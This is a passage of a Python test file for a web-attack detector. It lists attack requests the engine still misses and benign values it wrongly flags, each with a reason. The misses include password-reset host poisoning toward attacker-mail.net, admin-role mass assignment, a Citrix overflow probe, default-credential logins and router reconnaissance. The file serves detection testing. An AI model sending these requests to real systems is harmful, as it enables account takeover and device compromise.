"""The blind batches (written by people who never saw the detectors): what is caught and flagged, exactly."""
from __future__ import annotations

import pytest

from sensor.detect import verdict
from tests.detect.blind_attacks_a import BLIND_ATTACKS_A
from tests.detect.blind_attacks_b import BLIND_ATTACKS_B
from tests.detect.blind_attacks_c import BLIND_ATTACKS_C
from tests.detect.blind_attacks_d import BLIND_ATTACKS_D
from tests.detect.blind_attacks_e import BLIND_ATTACKS_E
from tests.detect.blind_attacks_f import BLIND_ATTACKS_F
from tests.detect.blind_attacks_g import BLIND_ATTACKS_G
from tests.detect.blind_attacks_h import BLIND_ATTACKS_H
from tests.detect.blind_attacks_j import BLIND_ATTACKS_J
from tests.detect.blind_attacks_k import BLIND_ATTACKS_K
from tests.detect.blind_attacks_l import BLIND_ATTACKS_L
from tests.detect.blind_attacks_m import BLIND_ATTACKS_M
from tests.detect.blind_attacks_n import BLIND_ATTACKS_N
from tests.detect.blind_attacks_p import BLIND_ATTACKS_P
from tests.detect.blind_attacks_q import BLIND_ATTACKS_Q
from tests.detect.blind_attacks_r import BLIND_ATTACKS_R
from tests.detect.blind_attacks_s import BLIND_ATTACKS_S
from tests.detect.blind_attacks_t import BLIND_ATTACKS_T
from tests.detect.blind_attacks_u import BLIND_ATTACKS_U
from tests.detect.blind_attacks_v import BLIND_ATTACKS_V
from tests.detect.blind_attacks_w import BLIND_ATTACKS_W
from tests.detect.blind_attacks_x import BLIND_ATTACKS_X
from tests.detect.blind_attacks_y import BLIND_ATTACKS_Y
from tests.detect.blind_attacks_za import BLIND_ATTACKS_ZA
from tests.detect.blind_attacks_zb import BLIND_ATTACKS_ZB
from tests.detect.blind_attacks_zc import BLIND_ATTACKS_ZC
from tests.detect.blind_attacks_zd import BLIND_ATTACKS_ZD
from tests.detect.blind_benign import BLIND_BENIGN
from tests.detect.blind_benign_10 import BLIND_BENIGN_10
from tests.detect.blind_benign_11 import BLIND_BENIGN_11
from tests.detect.blind_benign_12 import BLIND_BENIGN_12
from tests.detect.blind_benign_13 import BLIND_BENIGN_13
from tests.detect.blind_benign_14 import BLIND_BENIGN_14
from tests.detect.blind_benign_15 import BLIND_BENIGN_15
from tests.detect.blind_benign_2 import BLIND_BENIGN_2
from tests.detect.blind_benign_3 import BLIND_BENIGN_3
from tests.detect.blind_benign_4 import BLIND_BENIGN_4
from tests.detect.blind_benign_5 import BLIND_BENIGN_5
from tests.detect.blind_benign_6 import BLIND_BENIGN_6
from tests.detect.blind_benign_7 import BLIND_BENIGN_7
from tests.detect.blind_benign_8 import BLIND_BENIGN_8
from tests.detect.blind_benign_9 import BLIND_BENIGN_9
from tests.detect.wild_benign import build_request

# First measurements before any fix they prompted (bench/blind_bench.py, BENCHMARKS.md "Blind batches"): batches a, b
# and benign (15:40 UTC) 427 of 439 attacks caught, 27 of 307 benign values flagged; batches c, d and benign_2 (16:00,
# after round 5) 365 of 401, 32 of 302; batches e, f and benign_3 (stop 17, 18:59 UTC, the session's starting engine)
# 527 of 553, 2 of 337; batches g, h, j and benign_4 (this session's start, engine 7ddeb55) 681 of 689, 13 of 315
# (14 as written: one OData path sent spaces raw in its request line, percent-encoded since as a client sends it);
# batches k, l, m and benign_5 (the same session, engine 7ddeb55) 533 of 571, 26 of 359; batches p, q and benign_6,
# 7, 8 (stop 19, engine ddc5840, the query strings of path entries escaped as a browser sends them) 452 of 468, 93 of
# 785; batch n (the same engine) 143 of 171; batches s and benign_10 (stop 20, the session's engine 6920507 plus the
# new KEV virtual-patch packs, before any fix they prompted) 206 of 220, 21 of 256 (the starting engine alone: 202, 21);
# benign_9 (the engine of 281fa37, after the s/benign_10 fixes) 27 of 271 (the starting engine: 32); batch r (the
# engine of c878e12, after the benign_9 fixes) 147 of 159 (the starting engine: 122); batches t, u, v and benign_11
# (stop 21, written from the intents of the CRS 4.25 PL1/PL2 rules, engine 07880bc) 783 of 816, 14 of 279; batches
# w, x, y and benign_12 (stop 21, the rules' branches and transformations, engine 2797e8c after fix round 12) 757 of
# 780, 6 of 280; batches za, zb and benign_13 (stop 35: injections in a browser's busy carriers, published WAF
# bypasses, busy browser traffic and science portals; engine 32db739) 230 of 233, 326 of 327, 15 of 356; batches zc
# and benign_14 (stop 35: API payloads and text in many languages; engine ed1018c, after fix round 14) 289 of 292, 8
# of 383; batches zd and benign_15 (stop 35: uploads, CMS and admin back-ends, templates; engine 257a03a, after fix
# round 15) 267 of 275, 12 of 329.
# What is left after the fixes is listed here, each with the reason it stays;
# the tests fail when anything else changes in either direction.
KNOWN_MISS: dict[str, str] = {
    'raw::POST /account/password-reset HTTP/1.1\r\nHost: attacker-mail.net\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nemail=victim%40shop.example':
        "Host poisoning of a password reset: attacker-mail.net is a valid host name and nothing in the request contradicts it; only the site's own names can — pin them with a vpatch rule on [header, HOST] (docs/rules.md)",
    'body:application/x-www-form-urlencoded:wp-admin/admin-ajax.php:action=wpgdprc_process_action&security=&data={"type":"save_setting","append":false,"option":"users_can_register","value":"1"}':
        "a plugin's missing authorisation (WP GDPR Compliance): the request is the one an administrator's settings page sends; nothing in it is a payload",
    'path::/server-status?auto':
        "Apache's status page is what monitoring polls; an owner-used console stays to the dirbust windows and a per-site rule",
    'path::/manager/html':
        "Tomcat's manager console: its owners use it; a probe for it is one request of a directory scan (streams dirbust window)",
    'path::/solr/admin/cores?wt=json':
        "Solr's core admin API is how its owners manage it; exposure is a deployment matter for a per-site rule",
    'path::/console/login/LoginForm.jsp':
        "WebLogic's admin console login page: owner-used, see the Tomcat manager",
    'raw::GET /api/v1/users/1 HTTP/1.1\r\nHost: shop.example\r\nX-HTTP-Method-Override: DELETE\r\n\r\n':
        'a method override to DELETE on a GET: the same shape as a REST client behind a proxy that passes only GET and POST (blind_benign_5 sends X-HTTP-Method-Override: PATCH on a GET); a site that takes no overrides refuses them with a rule (tests/detect/test_round6_protocol.py)',
    'raw::POST /api/v1/users/1?_method=DELETE HTTP/1.1\r\nHost: shop.example\r\nX-Method-Override: DELETE\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n\r\n':
        '`_method=DELETE` with X-Method-Override: how Rails, Laravel and SharePoint clients send DELETE through proxies; CRS flags it only at PL2; a rule for sites without overrides',
    'path::/moveitisapi/moveitisapi.dll?action=m2':
        "MOVEit's own clients call this ISAPI; the exploit is its folder_add_by_path transaction header (caught) — the path with action=m2 alone is a vpatch for MOVEit sites",
}
KNOWN_FP: dict[str, str] = {
    'form:body:My script breaks on filenames with spaces:\n\n```bash\nfor f in $(ls *.mp3); do\n  ffmpeg -i "$f" "${f%.mp3}.ogg"\ndone\n```\n\nI know parsing `ls` is bad, but what should I use instead?':
        'fenced shell code in a forum post: three backticks are an empty substitution, the $(...) in it runs in a shell exactly like an attack wrapped the same way; a Q&A site needs a rule (docs/rules.md)',
    'form:body:The button does nothing in Firefox, Chrome is fine:\n\n```html\n<button id="save">Save</button>\n<script>\n  document.getElementById(\'save\').addEventListener(\'click\', () => {\n    fetch(\'/api/notes\', { method: \'POST\', body: JSON.stringify(note) });\n  });\n</script>\n```\n\nThe console is empty. What am I doing wrong?':
        'a <script> element in a fenced HTML block: markup runs wherever the post is not rendered as Markdown; a programming forum needs a rule',
    "form:body:Is this enough to be safe from SQL injection, or do I still need to escape the email?\n\n```php\n$stmt = $pdo->prepare('SELECT id, name FROM users WHERE email = ?');\n$stmt->execute([$_POST['email']]);\n$user = $stmt->fetch();\n```":
        'PHP code quoting $_POST beside a SELECT in a forum post (php:superglobal, xss:js_sink): code by design; a programming forum needs a rule',
    'json:text:```\nkubectl rollout restart deploy/checkout -n payments\n```\nthat fixed it 🙌':
        'a command in a fence in a chat message: runs in a shell as it stands (see the first entry)',
    'json::{"name": "nightly-backup", "cron": "0 3 * * *", "script": "pg_dump --format=custom \\"$DATABASE_URL\\" > backup-$(date +%F).dump && aws s3 cp backup-*.dump s3://acme-backups/db/"}':
        "a CI job's shell script: runs in a shell as it stands (pg_dump ... $(date) && aws ...); a CI service needs a rule",
    'json::{"name": "@acme/ui-kit", "version": "3.0.0-beta.2", "dependencies": {"react": "^18.2.0 || ^19.0.0", "clsx": "~2.1.0"}, "peerDependencies": {"react-dom": ">=18 <20"}, "scripts": {"build": "tsc -p tsconfig.build.json && vite build", "prepublishOnly": "npm run build && npm test -- --run"}}':
        'package.json scripts are shell command lines by design (npm run build && npm test); a package registry needs a rule',
    'json:readme:## Usage\n\n```sh\nnpx create-tiny-app my-app --template ts\ncd my-app && npm start\n```\n\n> **Note**: requires Node >= 18.':
        'fenced sh block in a README: runs in a shell as written (cd my-app && npm start)',
    'form:wpTextbox1:<syntaxhighlight lang="sql">\nSELECT name, COUNT(*) FROM members GROUP BY name HAVING COUNT(*) > 1;\n</syntaxhighlight>\nThis query finds duplicate member names.':
        'a whole SELECT in wiki source: the same text is a subquery injection; a wiki with code samples needs a rule',
    "json:source:%%sql\nSELECT region, SUM(revenue) AS revenue\nFROM sales\nWHERE order_date >= '2024-01-01'\nGROUP BY region\nORDER BY revenue DESC\nLIMIT 10;":
        'a notebook SQL cell: a whole SELECT by design; a notebook service needs a rule',
    "json:source:%%bash\nset -euo pipefail\nwc -l data/*.csv | sort -n | tail -5\nls -lh data/ | grep -v '^total'":
        'a notebook bash cell: shell by design',
    'json:source:import os, subprocess\nout = subprocess.run(["git", "log", "-1", "--format=%h %s"], capture_output=True, text=True)\nprint(out.stdout)':
        'a notebook Python cell calling subprocess.run with a literal argument list: exactly what an exec() payload looks like',
    'json:source:%env AWS_DEFAULT_REGION=eu-west-1\n!aws s3 ls s3://open-data-bucket/2024/ --no-sign-request | head':
        'notebook shell magics (!aws ... | head): shell by design',
    "json:source:import sqlite3\ncon = sqlite3.connect('chinook.db')\ncur = con.execute('SELECT Name FROM sqlite_master WHERE type = ?', ('table',))\ncur.fetchall()":
        'a notebook cell with a SELECT on sqlite_master (a catalog table attacks enumerate): code by design',
    "body:text/plain:tap/sync:SELECT TOP 100 source_id, ra, dec, phot_g_mean_mag\nFROM gaiadr3.gaia_source\nWHERE 1=CONTAINS(POINT('ICRS', ra, dec), CIRCLE('ICRS', 266.41, -29.00, 0.1))\nAND phot_g_mean_mag < 15\nORDER BY phot_g_mean_mag":
        'an ADQL query to an astronomy TAP service: a whole SELECT with 1=CONTAINS(...) by design; the service needs a rule',
    "json:question:What does the input ' OR 1=1 -- do when it is concatenated into a login query?":
        'a security quiz quoting the classic payload verbatim: the same text is the attack',
    "json:explanation:Parameterised queries send the SQL text and the data separately, so a value like O'Brien or 1; DROP TABLE is only ever treated as data.":
        'a security quiz quoting a stacked DROP TABLE: the same text is the attack',
    'form:markdown:## Install\n\n```\nnpm install --save my-lib\n```\n\n* **Fast** — under 2 kB\n* See [docs](https://example.com/docs)':
        'a command in a fenced block of a README: runs in a shell as written (see the first entry)',
    'body:text/yaml:workflows/validate:name: CI\non:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci && npm test\n        env:\n          API_URL: ${{ secrets.STAGING_API_URL }}\n':
        "a CI workflow's `run: npm ci && npm test` step: shell by design (see the first entry); a CI service needs a rule",
    'form:command:npm run build -- --mode ${NODE_ENV}':
        'a command line with a variable in a field named command: runs in a shell as it stands',
    'form:markdown:## Setup\n\n```bash\npip install -r requirements.txt\nexport FLASK_APP=app.py\nflask run\n```\n\nThen open http://localhost:5000/':
        'a fenced bash block in a README (see the first entry)',
    'json:code_snippet:const total = items.reduce((sum, i) => sum + i.price * i.qty, 0);\nconsole.log(`Total: ${total.toFixed(2)}`);':
        'JavaScript calling console.log with a template literal: the exact shape of a node-serialize/eval probe; a code-sharing site needs a rule',
    "form:question:How do I write SELECT name FROM users WHERE created_at > '2024-01-01' ORDER BY name in Django's ORM?":
        'a whole SELECT … FROM … WHERE quoted in a question: the same text is a subquery injection',
    'json:comment:Tip: in bash, use "$(pwd)" instead of backticks, and quote "$@" when forwarding arguments.':
        '`"$(pwd)"` is the command substitution itself',
    'raw::PUT /api/v1/backups/db-2024-06-01.sql.gz HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: curl/8.5.0\r\nContent-Type: application/gzip\r\nContent-Length: 1048576\r\nExpect: 100-continue\r\n\r\n':
        'an upload to a dump name: the path alone reads as a backup probe; exempting PUT would also exempt writes to config names (settings.php, env.php) under the same rule; a backup API needs a rule',
}
# round 6 (batches n, p, q, benign 6-8): what the fixes left, each with its reason
KNOWN_MISS.update({
    'raw::PATCH /api/users/65f1c0a2e4b0d1a2b3c4d5e6 HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nContent-Type: application/merge-patch+json\r\nContent-Length: 40\r\nConnection: close\r\n\r\n{"$set":{"role":"admin","isAdmin":true}}':
        'mass assignment (a merge-patch setting `role: admin`): an authorisation flaw, no payload in the request',
    'raw::POST /api/users/me HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nContent-Type: application/json\r\nX-HTTP-Method-Override: PATCH\r\nContent-Length: 25\r\nConnection: close\r\n\r\n{"$set":{"role":"admin"}}':
        'mass assignment through a method override to PATCH: an authorisation flaw, no payload',
    'raw::PATCH /users/Hq3kT0v9sLcW2xYbN8mR.json HTTP/1.1\r\nHost: victim-app-default-rtdb.firebaseio.com\r\nContent-Type: application/json\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0 Safari/537.36\r\nContent-Length: 51\r\n\r\n{"role":"admin","plan":"enterprise","isStaff":true}':
        'Firebase rules that let a client write its own role: an authorisation flaw, no payload',
    'path::/gwtest/formssso?event=start&target=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA':
        'Citrix formssso `target=AAAA…` overflow probe: 260 letters in a query value; product-specific length, a vpatch',
    'raw::POST /api_jsonrpc.php HTTP/1.1\r\nHost: zabbix.example.com\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/json-rpc\r\nContent-Length: 96\r\n\r\n{"jsonrpc":"2.0","method":"user.login","params":{"username":"Admin","password":"zabbix"},"id":1}':
        'Zabbix default credentials (Admin/zabbix): a login with a weak password, no payload — left to brute-force windows',
})
KNOWN_FP.update({
    'query:q:/etc/nginx/conf.d/default.conf':
        'a config path alone in a search box: the same value in a file parameter is a read of the nginx config; the point carries no parameter meaning',
    'query:search:C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config':
        'a Windows config path alone in a search box: see the nginx path',
    'form:description:Profile page 500s for every user after the soft-delete PR.\n\n<pre>\nActiveRecord::StatementInvalid: PG::UndefinedColumn: ERROR:  column users.deleted_at does not exist\nLINE 1: SELECT "users".* FROM "users" WHERE "users"."deleted_at" IS NULL AND "users"."id" = $1 LIMIT $2\n                                           ^\napp/models/concerns/soft_deletable.rb:12:in `block in <module:SoftDeletable>\'\napp/controllers/users_controller.rb:8:in `show\'\n</pre>\n\nNeed to run `bin/rails db:migrate` on prod.':
        'a Rails error log pasted with its whole SELECT: code by design (a whole SQL statement), an issue tracker needs a rule',
    'form:message:uname -a gives: Linux web01 5.15.0-97-generic #107-Ubuntu SMP Wed Feb 7 13:26:48 UTC 2024 x86_64 GNU/Linux':
        'command output quoted after the command (`uname -a gives: …`): the value starts with a command line that runs as it stands',
    'form:message:mysql  Ver 8.0.36-0ubuntu0.22.04.1 for Linux on x86_64 ((Ubuntu)) -- is that supported?':
        '`mysql  Ver …` starts with a command and its options: see `uname -a`',
    'form:message:Current php.ini on my plan:\nmemory_limit = 256M\nupload_max_filesize = 64M\nmax_execution_time = 60\ndisable_functions = exec,passthru,shell_exec,system,proc_open,popen\nCan you raise upload_max_filesize?':
        'a php.ini paste: the same directives are what PHP_VALUE / .user.ini injection carries',
    'form:comment:Backups run from cron: 0 2 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1':
        'a crontab line with a redirect into /var/log: shell by design',
    'json:body_html:<p>Restart the web server and follow the error log:</p><pre><code class="language-bash">sudo systemctl restart nginx\nsudo tail -f /var/log/nginx/error.log</code></pre>':
        'fenced shell in a knowledge-base article (sudo systemctl …): shell by design',
    "json:content:## Troubleshooting\n\nIf you see `Error: EACCES: permission denied, open '/usr/local/lib/node_modules/.package-lock.json'`, don't use `sudo npm`; fix the prefix instead:\n\n```sh\nmkdir ~/.npm-global\nnpm config set prefix '~/.npm-global'\necho 'export PATH=~/.npm-global/bin:$PATH' >> ~/.profile\n```":
        'a fenced sh block in Markdown docs that appends to ~/.profile: shell by design (writing a shell profile is what a persistence payload does)',
    'json:content:PowerShell: `Get-ChildItem -Path C:\\inetpub\\logs\\LogFiles -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item`':
        'PowerShell in backticks after a `PowerShell:` label: a whole pipeline that runs as it stands',
    'json::{"type": "page", "title": "Runbook: restoring MySQL from backup", "space": {"key": "OPS"}, "body": {"storage": {"representation": "storage", "value": "<p>Run on the replica first:</p><ac:structured-macro ac:name=\\"code\\"><ac:parameter ac:name=\\"language\\">sql</ac:parameter><ac:plain-text-body><![CDATA[SELECT table_name, ROUND(data_length/1024/1024) AS mb FROM information_schema.tables WHERE table_schema = \'shop\' ORDER BY mb DESC;]]></ac:plain-text-body></ac:structured-macro>"}}, "version": {"number": 7, "message": "add size check"}}':
        'a Confluence runbook with a whole SQL statement in a code macro: code by design',
    'json::{"parent": {"database_id": "d9824bdc-8445-4327-be8b-5b47500af6ce"}, "properties": {"Name": {"title": [{"text": {"content": "Postmortem: 2024-03-12 checkout 502s"}}]}}, "children": [{"object": "block", "type": "code", "code": {"language": "shell", "rich_text": [{"type": "text", "text": {"content": "kubectl -n prod rollout undo deployment/checkout --to-revision=41"}}]}}]}':
        'a Notion code block of type shell (kubectl …): shell by design',
    'body:text/markdown:docs/pages/webhooks:# Webhooks\n\nWe POST JSON to your endpoint:\n\n```http\nPOST /hooks/acme HTTP/1.1\nHost: your-app.example\nContent-Type: application/json\nX-Acme-Signature: t=1710238542,v1=5257a869...\n\n{"event":"order.paid","id":"evt_123"}\n```\n\nRespond with `2xx` within 10 seconds.\n':
        'an HTTP example in a Markdown code fence: the same lines in a parameter are a header injection; the CRLF rule does not see fences',
    'body:text/markdown:docs/pages/cli:## Install\n\n```bash\ncurl -fsSL https://get.example.com/cli.sh | sh\n# or\nbrew install acme/tap/acme\n```\n\nThen `acme login --profile work`.\n':
        '`curl … | sh` in a Markdown install section: download-and-run by design',
    'json:body:Can we drop the `| bash` from the README? `curl -fsSL https://get.example.com | bash` scares people; show the download-then-verify steps instead.':
        '`curl … | bash` quoted in a review comment: the same text as an injected download into a shell',
    "json:body:```suggestion\n    if (!user || user.role !== 'admin') return res.status(403).end();\n```":
        "a JS review suggestion (`!user || user.role !== 'admin'`): `||` and a quote read as SQL logic; code by design",
    "json:body:Careful: `new Function('return ' + expr)` is basically eval. Could we use the existing `parseExpression()` AST walker?":
        "`new Function('return ' + expr)` named in a review: the code an injection would carry, punctuation and all",
    "json:body:Question: does `Runtime.getRuntime().exec(cmd)` here ever get user input? If not, fine, but let's add a comment.":
        '`Runtime.getRuntime().exec(cmd)` named in a review: see `new Function`',
    'json::{"query": "mutation IssueCreate($input: IssueCreateInput!) { issueCreate(input: $input) { success issue { id identifier url } } }", "variables": {"input": {"teamId": "9cfb482a-81e3-4154-b5b9-2c805e70a02d", "title": "Webhook retries hammer /hooks/stripe", "description": "Stripe retries on our `500`; handler should return `200` for already-processed `evt_` ids.\\n\\n```ts\\nif (await seen(event.id)) return res.sendStatus(200);\\n```", "priority": 2, "labelIds": ["f1a3b6c2-0d3e-4b0a-9a77-3c2b1d0e9f88"]}}}':
        'a Markdown code block in a GraphQL issue description read as stacked statements: code by design',
    'json::{"message": "Uncaught SyntaxError: Unexpected token \'<\'", "url": "https://app.example.com/static/js/runtime.js", "line": 1, "column": 1, "stack": "SyntaxError: Unexpected token \'<\'\\n    at <anonymous>:1:1", "userAgent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1"}':
        "`Unexpected token '<'` in a browser error report: a value ending in a quoted `<` has the shape of `admin'='` (the sentence-continued form is clean)",
    'multipart:attachment:.htaccess':
        'a .htaccess attached to a hosting ticket: uploading .htaccess is how AddType attacks start on Apache',
    'raw::POST /rest/webhooks/jira HTTP/1.1\r\nHost: bridge.example.com\r\nUser-Agent: Atlassian Webhook HTTP Client\r\nContent-Type: application/json; charset=UTF-8\r\nX-Atlassian-Webhook-Identifier: 4821-1710238542\r\nContent-Length: 292\r\n\r\n{"webhookEvent": "comment_created", "issue": {"key": "OPS-311", "fields": {"summary": "ORA-00942 in nightly export"}}, "comment": {"body": "{noformat}ORA-00942: table or view does not exist\\nSQL: SELECT * FROM EXPORT_V WHERE RUN_DATE = :1{noformat}", "author": {"displayName": "Sam O\'Neil"}}}':
        'a Jira webhook quoting an ORA- error with its whole SELECT: code by design',
    'raw::POST /v1/graphql HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json\r\nContent-Type: application/json\r\nx-hasura-role: editor\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk\r\nContent-Length: 122\r\n\r\n{"query":"query Drafts { articles(where: {published: {_eq: false}, title: {_similar: \\"%(draft|wip)%\\"}}) { id title } }"}':
        'a Hasura `_similar: "%(draft|wip)%"` inside a GraphQL document: the quoted pattern reads as a breakout; skipping it needs the parameter name in sqli.py (a hole for GraphQL in a GET `?query=`)',
    'query:filter:lastName==\'O\\\'Brien\' or firstName=="Mary Ann"':
        "RSQL with a backslash-escaped quote (`O\\'Brien`): read from inside a quote, `' or firstName==` is a breakout",
    'json::{"property":"Days left","formula":{"expression":"if(prop(\\"Done\\"), \\"✅\\", format(dateBetween(prop(\\"Due\\"), now(), \\"days\\")) + \\" days left\\")"}}':
        'a Notion formula `if(prop(…), …)`: function calls over literals read as SQL',
    'json::{"column":"margin","expression":"ROUND(({revenue} - {cost}) / {revenue} * 100, 1) & \\"%\\""}':
        'an Airtable-style formula ending in `& "%"`: a value ending in a short quoted string has the shape of a login bypass',
    'path::/arcgis/rest/services/Census/MapServer/3/query?where=1=1&outFields=*&returnGeometry=true&f=geojson':
        'ArcGIS `where=1=1`: the parameter is raw SQL and `1=1` is the classic injection test',
    'query:filter:S_INTERSECTS(geometry, BBOX(-10,40,10,50)) AND "eo:cloud_cover" < 10':
        'CQL2 `"eo:cloud_cover" < 10`: MySQL reads the double-quoted name as a string and the comparison is true — an injection of the same shape',
})

# round 7 (stop 20: batches r, s, benign 9, 10, the KEV virtual-patch packs): what the fixes left
KNOWN_MISS.update({
    'path::/HNAP1/':
        "a bare request for D-Link's HNAP endpoint: router recon, reported as scanner:device_path (0.45) and not blocked since stop 20 — on the router it is its own UI (blind benign 10); the exploits sent there carry payloads or match the KEV pack",
    'path::/boaform/admin/formLogin':
        "a bare request for a Boa router's login form: recon, reported (scanner:device_path), not blocked — see /HNAP1/",
    'raw::POST /boaform/admin/formLogin HTTP/1.1\r\nHost: 103.77.10.5:80\r\nContent-Type: application/x-www-form-urlencoded\r\nReferer: http://103.77.10.5:80/admin/login.asp\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 29\r\n\r\nusername=admin&psd=Feefifofum':
        "a bot's login to a Realtek/Boa router with default credentials: the request the router's own login page sends; reported (scanner:device_path), not blocked",
    'raw::GET /HNAP1/ HTTP/1.1\r\nHost: 73.14.209.6:8080\r\nSOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings"\r\nUser-Agent: Hello, world\r\nAccept: */*\r\n\r\n':
        "an HNAP GetDeviceSettings probe: the call the router's own UI makes first; reported (scanner:device_path), not blocked",
    'path::/config/getuser?index=0':
        "D-Link DCS account disclosure (CVE-2020-25078): the path alone, which the camera's own pages may call — left out of the KEV pack as uncertain",
    'raw::GET /currentsetting.htm HTTP/1.1\r\nHost: 71.190.2.18\r\nUser-Agent: Mozila/5.0\r\nAccept: */*\r\n\r\n':
        "Netgear's firmware-version page, which the Genie app reads: an information probe, no payload",
    'raw::GET /goform/telnet HTTP/1.1\r\nHost: 113.160.8.6\r\nUser-Agent: Hello, world\r\n\r\n':
        "Tenda's factory telnet switch: a bare GET of a device path, no payload; a virtual patch for Tenda sites",
    'raw::GET /cgi-bin/config.exp HTTP/1.1\r\nHost: 64.20.15.81\r\nUser-Agent: python-requests/2.25.1\r\nAccept: */*\r\n\r\n':
        'Cisco RV320 configuration export (CVE-2019-1653): the path alone, which its admins download too — not in the KEV pack for want of a certain unauthenticated marker',
    'path::/debug/default/view?panel=config':
        "Yii's debug panel: a development console its developers use; owner-used consoles stay to the dirbust windows and per-site rules",
    'path::/index.php?XDEBUG_SESSION_START=phpstorm':
        "an Xdebug session trigger, what a developer's IDE sends; harmless unless a debugger listens in production",
    'cookie::rememberMe=1':
        "`rememberMe=1` is an ordinary cookie on many sites; only Shiro reads it as serialised data (the exploit's long base64 value is caught)",
    'raw::GET /manager/html HTTP/1.1\r\nHost: 52.14.77.50:8080\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36\r\n\r\n':
        "Tomcat's manager with default credentials (tomcat:s3cret): an owner-used console; no default-credential checks are built",
    'path::/console':
        "Werkzeug's debugger console path: an ordinary path on many sites",
    'raw::GET /v1.16/version HTTP/1.1\r\nHost: 52.14.77.53:2375\r\nUser-Agent: Go-http-client/1.1\r\nAccept-Encoding: gzip\r\n\r\n':
        "the Docker Engine API's version call as docker clients send it: an exposed daemon is a deployment matter",
})
KNOWN_FP.update({
    'raw::POST /apply.cgi HTTP/1.1\r\nHost: router.asus.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: */*\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: http://router.asus.com\r\nReferer: http://router.asus.com/Main_Analysis_Content.asp\r\nCookie: asus_token=Hq3kV8pN2wZ5xY7bC1dF4gJ6\r\nConnection: keep-alive\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: 273\r\n\r\ncurrent_page=Main_Analysis_Content.asp&next_page=Main_Analysis_Content.asp&group_id=&modified=0&action_mode=+Refresh+&action_script=&action_wait=&first_time=&preferred_lang=EN&SystemCmd=ping+-c+5+www.google.com&firmver=3.0.0.4&cmdMethod=ping&destIP=www.google.com&pingCNT=5':
        "ASUS's Network Analysis page posts the command line it runs (`SystemCmd=ping -c 5 …`): a device UI that sends commands by design; a per-site rule",
    'raw::POST /ubus/?1709546188 HTTP/1.1\r\nHost: 192.168.1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: application/json\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: http://192.168.1.1\r\nReferer: http://192.168.1.1/cgi-bin/luci/admin/network/diagnostics\r\nCookie: sysauth_http=9d2c4e6f8a0b1c3d5e7f9a1b3c5d7e9f\r\nConnection: keep-alive\r\nContent-Type: application/json\r\nContent-Length: 172\r\n\r\n{"jsonrpc":"2.0","id":7,"method":"call","params":["9d2c4e6f8a0b1c3d5e7f9a1b3c5d7e9f","file","exec",{"command":"/bin/ping","params":["-4","-c","5","-W","1","openwrt.org"]}]}':
        "OpenWrt LuCI's diagnostics call ubus `file exec /bin/ping`: commands by design",
